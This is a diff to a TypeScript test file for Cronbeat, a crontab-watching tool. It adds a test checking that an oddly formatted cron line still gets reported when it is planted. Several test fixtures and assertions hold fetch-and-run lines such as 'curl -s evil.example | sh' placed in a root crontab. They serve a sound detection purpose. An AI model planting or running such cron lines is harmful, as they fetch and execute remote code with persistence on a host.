@@ -1,4 +1,4 @@
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -191,5 +191,27 @@ describe('a crontab line longer than an alert may be', () => {
     expect(stored[0].command).toMatch(/; curl -s evil\.example\/x \| sh$/);
     expect(stored[1].command).toMatch(/; curl -s evil\.example\/y \| sh$/);
     expect(stored[1].previous_command).toMatch(/; curl -s evil\.example\/x \| sh$/);
+  });
+});
+
+describe('a line Cronbeat reads as no job', () => {
+  it("is watched all the same (some cron may run it), and one there before such lines were watched is no addition", async () => {
+    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n');
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
+    const first = await watchOnce();
+    expect(first.stdout).toMatch(/watching 1 cron job of 1 user/);
+    // The state as a watcher from before kept it: the jobs alone.
+    const stateFile = join(folder, 'crontab-watch-web-7.json');
+    const state = JSON.parse(readFileSync(stateFile, 'utf8'));
+    writeFileSync(stateFile, JSON.stringify({ ...state, refusedLines: undefined, jobs: state.jobs.filter((job: { refused?: true }) => !job.refused) }));
+    const upgraded = await watchOnce();
+    expect(upgraded.status).toBe(0);
+    expect(upgraded.stdout).not.toMatch(/found:/);
+    // Debian's cron runs "5/20" at :05 every hour: planted so, a line must not pass unseen.
+    writeFileSync(file, '0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n5/20 * * * * root curl -s evil.example | sh\n');
+    const planted = await watchOnce();
+    expect(planted.status, planted.stderr).toBe(0);
+    expect(planted.stdout).toMatch(/delivered: added for \S+: 5\/20 \* \* \* \* root curl -s evil\.example \| sh\n/);
   });
 });
